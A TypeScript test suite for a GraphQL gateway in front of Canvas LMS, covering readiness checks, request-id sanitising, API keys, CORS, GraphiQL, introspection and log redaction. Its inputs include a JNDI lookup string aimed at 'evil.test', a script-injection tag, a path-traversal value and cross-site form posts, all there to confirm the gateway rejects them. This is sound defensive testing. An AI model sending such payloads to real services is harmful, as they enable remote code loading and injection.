import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { CanvasUpstream } from '../../src/canvas/upstream.ts';
import { always, biology, hang, notFound, secretToken, text } from '../support/canvas-scripts.ts';
import { type Answer, plainConfig } from '../support/gateway.ts';
import { readableLog } from '../support/log.ts';
import { type Script, startScriptedGateway } from '../support/scripted-canvas.ts';
import { serve } from '../support/serve.ts';

type Gateway = Awaited<ReturnType<typeof startScriptedGateway>>;
type Config = Partial<typeof plainConfig>;

const uuid = /^[\da-f]{8}-[\da-f]{4}-4[\da-f]{3}-[89ab][\da-f]{3}-[\da-f]{12}$/;

function start(script: Script = always(biology), config: Config = {}): Promise<Gateway> {
  return startScriptedGateway(script, { config: { ...plainConfig, ...config } });
}

async function send(
  { yoga }: Pick<Gateway, 'yoga'>,
  path: string,
  init: { method?: string; headers?: Record<string, string>; body?: string | FormData } = {},
): Promise<Response> {
  return yoga.fetch(`http://gateway.test${path}`, init);
}

/** Sends an operation as JSON. */
function post(
  gateway: Pick<Gateway, 'yoga'>,
  body: unknown,
  headers: Record<string, string> = {},
): Promise<Response> {
  return send(gateway, '/graphql', {
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: 'Bearer a-token', ...headers },
    body: typeof body === 'string' ? body : JSON.stringify(body),
  });
}

const courseQuery = '{ course(id: 1) { name } }';
const mutation = 'mutation { startCourseReport(input: { courseId: 1 }) { report { _id } } }';
const answerOf = async (response: Response) => (await response.json()) as Answer;

afterEach(() => {
  vi.restoreAllMocks();
});

describe('/health', () => {
  it('is 200 while the process lives, whatever becomes of Canvas', async () => {
    const gateway = await start(hang, { gatewayApiKeys: ['key'] });
    expect((await send(gateway, '/health')).status).toBe(200);
    expect(gateway.requests).toEqual([]);
  });
});

describe('/ready', () => {
  it('is 200 when Canvas answers, even if only to refuse who has no token', async () => {
    const gateway = await start(always({ status: 'unauthenticated' }, { status: 401 }));
    expect((await send(gateway, '/ready')).status).toBe(200);
  });

  it('is 503 when nothing listens there', async () => {
    const gateway = await start();
    await new Promise((resolve) => gateway.server.close(resolve));
    expect((await send(gateway, '/ready')).status).toBe(503);
  });

  it.each([500, 502, 503])('is 503 when Canvas answers %i', async (status) => {
    const gateway = await start((_request, response) => {
      text(response, 'Maintenance', { status });
    });
    expect((await send(gateway, '/ready')).status).toBe(503);
  });

  it.each([
    ['reachable', notFound, 200],
    [
      'broken',
      (_request, response) => {
        text(response, '', { status: 500 });
      },
      503,
    ],
  ] satisfies [string, Script, number][])(
    'looks at a %s Canvas once, however many ask',
    async (_, script, status) => {
      const gateway = await start(script);
      const asked = Array.from({ length: 20 }, () => send(gateway, '/ready'));
      const statuses = (await Promise.all(asked)).map((response) => response.status);
      expect(new Set(statuses)).toEqual(new Set([status]));
      expect((await send(gateway, '/ready')).status).toBe(status);
      expect(gateway.requests).toHaveLength(1);
    },
  );

  it('looks again after some seconds', async () => {
    let isUp = false;
    const gateway = await start((_request, response) => {
      text(response, '', { status: isUp ? 401 : 500 });
    });
    const now = vi.spyOn(performance, 'now').mockReturnValue(0);
    expect((await send(gateway, '/ready')).status).toBe(503);
    isUp = true;
    now.mockReturnValue(60_000);
    expect((await send(gateway, '/ready')).status).toBe(200);
    expect(gateway.requests).toHaveLength(2);
  });

  it('sends no token, not even a configured one, and needs no key', async () => {
    const sent: unknown[] = [];
    const gateway = await start(
      (request, response) => {
        sent.push(request.headers.authorization);
        notFound(request, response);
      },
      { canvasAccessToken: 'configured', gatewayApiKeys: ['key'] },
    );
    expect((await send(gateway, '/ready')).status).toBe(200);
    expect(sent).toEqual([undefined]);
  });
});

describe('x-request-id', () => {
  it.each(['abc', '4bf92f3577b34da6a3ce929d0e0e4736', 'a.b:c_d-e', 'x'.repeat(128)])(
    "is the client's own where it sent one: %s",
    async (id) => {
      const gateway = await start(notFound);
      const response = await post(gateway, { query: courseQuery }, { 'x-request-id': id });
      expect(response.headers.get('x-request-id')).toBe(id);
      const { errors } = await answerOf(response);
      expect(errors?.map(({ extensions }) => extensions.requestId)).toEqual([id]);
    },
  );

  it('is made where there is none, anew for each request', async () => {
    const gateway = await start(notFound);
    const responses = await Promise.all([
      post(gateway, { query: courseQuery }),
      post(gateway, { query: courseQuery }),
    ]);
    const ids = responses.map(({ headers }) => headers.get('x-request-id'));
    expect(ids).toEqual([expect.stringMatching(uuid), expect.stringMatching(uuid)]);
    expect(new Set(ids).size).toBe(2);
    const { errors } = await answerOf(responses[0]);
    expect(errors?.[0]?.extensions.requestId).toBe(ids[0]);
  });

  it.each([
    'two words',
    '<script>alert(1)</script>',
    '"quoted"',
    'a,b',
    '{"level":"fatal"}',
    '${jndi:ldap://evil.test}',
    '../../etc',
    'ümlaut',
    '\u001b[31m',
    'x'.repeat(129),
    '',
  ])('that is hostile is replaced: %j', async (id) => {
    const gateway = await start(notFound);
    const response = await post(gateway, { query: courseQuery }, { 'x-request-id': id });
    expect(response.headers.get('x-request-id')).toMatch(uuid);
    const { errors } = await answerOf(response);
    expect(errors?.[0]?.extensions.requestId).toBe(response.headers.get('x-request-id'));
  });

  const credentials: [what: string, headers: Record<string, string>, id: string][] = [
    ['is the token', { authorization: 'Bearer 0123456789abcdef' }, '0123456789abcdef'],
    ['holds the token', { authorization: 'Bearer 0123456789abcdef' }, 'of:0123456789abcdef'],
    ['is most of the token', { authorization: 'Bearer 0123456789abcdef' }, '123456789abcde'],
    [
      "holds the secret half of Canvas's token",
      { authorization: 'Bearer 1~0123456789abcdef' },
      'of-0123456789abcdef',
    ],
    ['is the API key', { 'x-api-key': 'key-0123456789' }, 'key-0123456789'],
    ['is a cookie', { cookie: 'a=b; session=0123456789abcdef' }, '0123456789abcdef'],
  ];

  it.each(credentials)('that %s is replaced, and in no log', async (_, headers, id) => {
    const { texts, log } = readableLog('trace');
    const received: unknown[] = [];
    const gateway = await startScriptedGateway(
      (request, response) => {
        received.push(request.headers['x-request-id']);
        notFound(request, response);
      },
      { log },
    );
    const answer = await post(gateway, { query: courseQuery }, { ...headers, 'x-request-id': id });
    const given = answer.headers.get('x-request-id');
    expect(given).toMatch(uuid);
    expect(received).toEqual([given]);
    expect(texts.length).toBeGreaterThan(1);
    expect(texts.join('')).not.toContain(id);
  });

  it('may have in it what is in a token by accident', async () => {
    const gateway = await start(notFound);
    const headers = { authorization: 'Bearer 1~0123456789abcdef', 'x-request-id': '1234567' };
    const response = await post(gateway, { query: courseQuery }, headers);
    expect(response.headers.get('x-request-id')).toBe('1234567');
  });

  it.each(['/health', '/ready', '/graphql', '/nowhere'])('is on every answer: %s', async (path) => {
    const gateway = await start();
    const response = await send(gateway, path, { headers: { 'x-request-id': 'mine' } });
    expect(response.headers.get('x-request-id')).toBe('mine');
  });

  it('survives the way through a socket', async () => {
    const { yoga } = await start(notFound);
    const url = await serve((request, response) => void yoga(request, response));
    const response = await fetch(`${url}/graphql`, {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        authorization: 'Bearer a-token',
        'x-request-id': 'mine',
      },
      body: JSON.stringify({ query: courseQuery }),
    });
    expect(response.headers.get('x-request-id')).toBe('mine');
    const { errors } = await answerOf(response);
    expect(errors?.[0]?.extensions.requestId).toBe('mine');
  });
});

describe('X-Api-Key', () => {
  const config: Config = { gatewayApiKeys: ['first-key', 'second-key'] };

  it.each(['first-key', 'second-key'])('lets in who has a key: %s', async (key) => {
    const gateway = await start(always(biology), config);
    const response = await post(gateway, { query: courseQuery }, { 'x-api-key': key });
    expect(await response.json()).toEqual({ data: { course: { name: 'Biology' } } });
  });

  it.each([undefined, '', 'first', 'first-key ,', 'FIRST-KEY', 'first-key, second-key'])(
    'keeps out who has none: %j',
    async (key) => {
      const gateway = await start(always(biology), config);
      const headers = key === undefined ? undefined : { 'x-api-key': key };
      const response = await post(gateway, { query: courseQuery }, headers);
      expect(response.status).toBe(401);
      const { data, errors } = await answerOf(response);
      expect(data).toBeUndefined();
      expect(errors).toEqual([
        {
          message: expect.any(String),
          extensions: {
            code: 'UNAUTHENTICATED',
            requestId: response.headers.get('x-request-id'),
          },
        },
      ]);
      expect(gateway.requests).toEqual([]);
    },
  );

  it('is asked of a GET and of the schema, too', async () => {
    const gateway = await start(always(biology), config);
    const query = encodeURIComponent('{ __schema { queryType { name } } }');
    expect((await send(gateway, `/graphql?query=${query}`)).status).toBe(401);
  });

  it('is not asked of a preflight, which cannot carry it', async () => {
    const gateway = await start(always(biology), {
      ...config,
      corsOrigins: ['https://app.test', 'https://other.test'],
    });
    const response = await send(gateway, '/graphql', preflightFrom('https://app.test'));
    expect(response.status).toBe(204);
    expect(response.headers.get('access-control-allow-origin')).toBe('https://app.test');
  });
});

function preflightFrom(origin: string) {
  return {
    method: 'OPTIONS',
    headers: {
      origin,
      'access-control-request-method': 'POST',
      'access-control-request-headers': 'authorization,content-type,x-api-key',
    },
  };
}

describe.each([
  ['one allowed origin', ['https://app.test']],
  ['two allowed origins', ['https://app.test', 'https://admin.test']],
])('CORS with %s', (_, corsOrigins) => {
  it('lets pages of an allowed origin read the answer and its request id', async () => {
    const gateway = await start(always(biology), { corsOrigins });
    const response = await post(gateway, { query: courseQuery }, { origin: 'https://app.test' });
    expect(response.headers.get('access-control-allow-origin')).toBe('https://app.test');
    expect(response.headers.get('access-control-expose-headers')).toContain('x-request-id');
  });

  it('lets them send the headers that the gateway asks for', async () => {
    const gateway = await start(always(biology), { corsOrigins });
    const response = await send(gateway, '/graphql', preflightFrom('https://app.test'));
    expect(response.status).toBe(204);
    expect(response.headers.get('access-control-allow-methods')).toContain('POST');
    expect(response.headers.get('access-control-allow-headers')).toBe(
      'authorization,content-type,x-api-key',
    );
  });

  it('lets them read why a key is asked for', async () => {
    const gateway = await start(always(biology), { corsOrigins, gatewayApiKeys: ['key'] });
    const response = await post(gateway, { query: courseQuery }, { origin: 'https://app.test' });
    expect(response.status).toBe(401);
    expect(response.headers.get('access-control-allow-origin')).toBe('https://app.test');
  });

  it.each(['https://evil.test', 'http://app.test', 'https://app.test.evil.test', 'null'])(
    'lets no page of another origin read anything: %s',
    async (origin) => {
      const gateway = await start(always(biology), { corsOrigins });
      for (const response of [
        await post(gateway, { query: courseQuery }, { origin }),
        await send(gateway, '/graphql', preflightFrom(origin)),
      ]) {
        // `null` is an origin, too: that of a sandboxed frame and of a file.
        expect([origin, '*', 'null']).not.toContain(
          response.headers.get('access-control-allow-origin'),
        );
      }
    },
  );
});

describe('CORS', () => {
  it('is not offered when no origin is configured', async () => {
    const gateway = await start();
    for (const response of [
      await post(gateway, { query: courseQuery }, { origin: 'https://app.test' }),
      await send(gateway, '/graphql', preflightFrom('https://app.test')),
    ]) {
      const names = [...response.headers.keys()];
      expect(names.filter((name) => name.startsWith('access-control-'))).toEqual([]);
    }
  });

  it('tells caches that the answer depends on the origin', async () => {
    const gateway = await start(always(biology), {
      corsOrigins: ['https://app.test', 'https://admin.test'],
    });
    for (const origin of ['https://app.test', 'https://evil.test']) {
      const response = await post(gateway, { query: courseQuery }, { origin });
      expect(response.headers.get('vary')).toMatch(/\bOrigin\b/i);
    }
  });
});

describe('GraphiQL', () => {
  const browser = { headers: { accept: 'text/html,application/xhtml+xml' } };

  /** The page without what its own scripts and styles hold. */
  const tagsOf = (html: string) =>
    html
      .replace(/(<script\b[^>]*>)[\s\S]*?<\/script>/gi, '$1')
      .replace(/(<style\b[^>]*>)[\s\S]*?<\/style>/gi, '$1');

  it('is served to a browser, whole: no asset comes from another host', async () => {
    const gateway = await start();
    const response = await send(gateway, '/graphql', browser);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^text\/html/);
    const html = await response.text();
    const references = [
      ...tagsOf(html).matchAll(/\b(?:src|href|action|data)\s*=\s*["']?([^"'\s>]+)/gi),
    ];
    expect(
      references.map(([, url]) => url).filter((url) => /^(?:https?:)?\/\//.test(url!)),
    ).toEqual([]);
    for (const [, css] of html.matchAll(/<style\b[^>]*>([\s\S]*?)<\/style>/gi)) {
      expect(css).not.toMatch(/@import|url\(\s*["']?(?:https?:)?\/\//);
    }
    expect(html).not.toMatch(/\b(?:unpkg\.com|jsdelivr\.net|cdnjs\.cloudflare\.com|esm\.sh)\b/);
    expect(gateway.requests).toEqual([]);
  });

  it('opens with every example operation', async () => {
    const html = await (await send(await start(), '/graphql', browser)).text();
    const folder = join(import.meta.dirname, '../../examples/operations');
    const names = readdirSync(folder)
      .filter((name) => name.endsWith('.graphql'))
      .map(
        (name) =>
          /\b(?:query|mutation|subscription) (\w+)/.exec(
            readFileSync(join(folder, name), 'utf8'),
          )![1]!,
      );
    expect(names.length).toBeGreaterThan(10);
    expect(names.filter((name) => !html.includes(name))).toEqual([]);
  });

  it("opens with the embedded Canvas's token, and never with a configured one", async () => {
    const gateway = await startScriptedGateway(notFound, {
      config: { ...plainConfig, canvasAccessToken: 'configured-secret' },
      graphiqlToken: 'embedded-token',
    });
    const html = await (await send(gateway, '/graphql', browser)).text();
    expect(html).toContain('Bearer embedded-token');
    expect(html).not.toContain('configured-secret');
  });

  it('is not served where it is switched off', async () => {
    const gateway = await start(notFound, { graphiql: false });
    const response = await send(gateway, '/graphql', browser);
    expect(response.headers.get('content-type') ?? '').not.toMatch(/^text\/html/);
    expect(await response.text()).not.toMatch(/graphiql/i);
  });
});

describe('production', () => {
  const introspection = '{ __schema { types { name } } }';

  it.each([
    introspection,
    '{ __type(name: "Query") { name } }',
    `${courseQuery.slice(0, -1)} __schema { queryType { name } } }`,
  ])('has no introspection: %s', async (query) => {
    const gateway = await start(always(biology), { production: true, graphiql: false });
    const response = await post(gateway, { query });
    const { data, errors } = await answerOf(response);
    expect(data).toBeUndefined();
    expect(errors?.[0]?.extensions).toEqual({
      code: 'GRAPHQL_VALIDATION_FAILED',
      requestId: response.headers.get('x-request-id'),
    });
    expect(gateway.requests).toEqual([]);
  });

  it('answers operations, and __typename', async () => {
    const gateway = await start(always(biology), { production: true, graphiql: false });
    expect(
      await (
        await post(gateway, { query: '{ __typename course(id: 1) { __typename name } }' })
      ).json(),
    ).toEqual({
      data: { __typename: 'Query', course: { __typename: 'Course', name: 'Biology' } },
    });
  });

  it('has introspection again where GraphiQL is switched on', async () => {
    const gateway = await start(notFound, { production: true, graphiql: true });
    const { errors } = await answerOf(await post(gateway, { query: introspection }));
    expect(errors).toBeUndefined();
  });
});

describe('a GET', () => {
  const at = (query: string, more = '') => `/graphql?query=${encodeURIComponent(query)}${more}`;
  const headers = { authorization: 'Bearer a-token' };

  it('reads', async () => {
    const gateway = await start();
    const response = await send(gateway, at(courseQuery), { headers });
    expect(await response.json()).toEqual({ data: { course: { name: 'Biology' } } });
    expect(gateway.requests).toHaveLength(1);
  });

  it.each([
    ['alone', at(mutation)],
    [
      'among others',
      at(
        `query A { __typename } ${mutation.replace('mutation', 'mutation B')}`,
        '&operationName=B',
      ),
    ],
  ])('changes nothing: a mutation %s is refused', async (_, path) => {
    const gateway = await start();
    const response = await send(gateway, path, { headers });
    expect(response.status).toBe(405);
    const { data, errors } = await answerOf(response);
    expect(data).toBeUndefined();
    expect(errors?.[0]?.extensions).toEqual({
      code: 'BAD_REQUEST',
      requestId: response.headers.get('x-request-id'),
    });
    expect(gateway.requests).toEqual([]);
  });
});

describe('a page of another site', () => {
  const config: Config = { canvasAccessToken: 'configured' };
  const multipart = new FormData();
  multipart.set('operations', JSON.stringify({ query: mutation }));
  multipart.set('map', '{}');

  // What a form may send without asking first; the configured token would serve it.
  it.each<[string, Record<string, string>, string | FormData]>([
    [
      'application/x-www-form-urlencoded',
      { 'content-type': 'application/x-www-form-urlencoded' },
      `query=${encodeURIComponent(mutation)}`,
    ],
    ['multipart/form-data', {}, multipart],
    ['text/plain', { 'content-type': 'text/plain' }, JSON.stringify({ query: mutation })],
  ])('starts nothing by a form (%s)', async (_, headers, body) => {
    const gateway = await start(always({ id: '7', status: 'created' }), config);
    const response = await send(gateway, '/graphql', {
      method: 'POST',
      headers: { ...headers, origin: 'https://evil.test' },
      body,
    });
    expect(response.status).toBeGreaterThanOrEqual(400);
    expect(gateway.requests).toEqual([]);
  });
});

describe('an error of the request', () => {
  it.each([
    ['a syntax error', { query: '{' }, 'GRAPHQL_PARSE_FAILED'],
    ['an unknown field', { query: '{ nope }' }, 'GRAPHQL_VALIDATION_FAILED'],
    ['an unknown argument', { query: '{ course(nope: 1) { name } }' }, 'GRAPHQL_VALIDATION_FAILED'],
    ['a missing argument', { query: '{ node { id } }' }, 'GRAPHQL_VALIDATION_FAILED'],
    [
      'an unknown operation',
      { query: 'query A { __typename }', operationName: 'B' },
      'OPERATION_RESOLUTION_FAILURE',
    ],
    ['no query', {}, 'BAD_REQUEST'],
    ['a body that is no JSON', '{', 'BAD_REQUEST'],
    ['a batch', [{ query: '{ __typename }' }], 'BAD_REQUEST'],
  ])('has a code and a request id: %s', async (_, body, code) => {
    const gateway = await start();
    const response = await post(gateway, body);
    const { data, errors } = await answerOf(response);
    expect(data).toBeUndefined();
    expect(errors?.length).toBeGreaterThanOrEqual(1);
    for (const { message, extensions } of errors ?? []) {
      expect(message).not.toBe('');
      expect(extensions).toMatchObject({
        code,
        requestId: response.headers.get('x-request-id'),
      });
      expect(extensions).not.toHaveProperty('stack');
    }
    expect(gateway.requests).toEqual([]);
  });
});

describe('an unexpected error', () => {
  const secret = 'a secret of secret.ts, line 7';

  it.each([
    ['in development', plainConfig],
    ['in production', { ...plainConfig, production: true, graphiql: false }],
  ])('is told to the log, and to the client only that it happened, %s', async (_, config) => {
    vi.spyOn(CanvasUpstream.prototype, 'exchange').mockImplementation(() => {
      throw new RangeError(secret);
    });
    const { texts: lines, log } = readableLog();
    const gateway = await startScriptedGateway(always(biology), { config, log });
    const response = await post(gateway, { query: courseQuery });
    const body = await response.text();
    expect(JSON.parse(body)).toEqual({
      data: { course: null },
      errors: [
        {
          message: expect.any(String),
          locations: expect.any(Array),
          path: ['course', 'name'],
          extensions: {
            code: 'INTERNAL_SERVER_ERROR',
            requestId: response.headers.get('x-request-id'),
          },
        },
      ],
    });
    expect(body).not.toMatch(/secret|RangeError|TypeError|\.ts|node_modules/);
    expect(lines.filter((line) => line.includes(secret))).toHaveLength(1);
  });

  it('is none where Canvas only refused: that is not logged as one', async () => {
    const { texts: lines, log } = readableLog();
    const gateway = await startScriptedGateway(notFound, { log });
    await post(gateway, { query: courseQuery });
    expect(lines.filter((line) => line.includes('unexpected'))).toEqual([]);
  });

  it('or any other leaves no token, no variable and no name of a person in the log', async () => {
    const { texts: lines, log } = readableLog();
    const gateway = await startScriptedGateway(always({ ...biology, name: 'Ada Obi' }), { log });
    await post(
      gateway,
      {
        query: 'query Look($id: String) { course(sisId: $id) { name } }',
        variables: { id: 'private-id' },
        operationName: 'Look',
      },
      { authorization: `Bearer ${secretToken}`, 'x-request-id': 'mine' },
    );
    expect(lines).toHaveLength(1);
    expect(JSON.parse(lines[0]!)).toMatchObject({
      requestId: 'mine',
      method: 'POST',
      operation: 'Look',
      status: 200,
      durationMs: expect.any(Number),
    });
    expect(lines[0]).not.toMatch(/private-id|Ada Obi/);
    expect(lines[0]).not.toContain(secretToken);
  });
});
